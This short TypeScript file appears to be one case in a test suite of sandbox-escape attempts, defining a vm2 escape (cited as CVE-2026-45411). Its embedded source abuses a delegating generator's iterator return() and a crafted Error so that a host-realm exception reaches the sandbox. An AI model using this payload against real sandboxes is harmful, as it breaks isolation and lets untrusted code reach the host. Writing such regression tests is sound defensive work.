import { attack } from '../attack.ts';

/** A delegating generator closes an iterator whose failure is the host's (vm2 CVE-2026-45411). */
export const escape = attack({
	grants: [],
	source: `
		const error = new Error('x');
		error.message = { toString: null, valueOf: null };
		const iterator = { [Symbol.iterator]() { return this; }, next: () => ({ done: false }), return() { error.name = Symbol(); error.stack; } };
		function* outer() { yield* iterator; }
		const running = outer();
		running.next();
		try { running.return(); } catch (thrown) { return loot(thrown); }
	`,
});
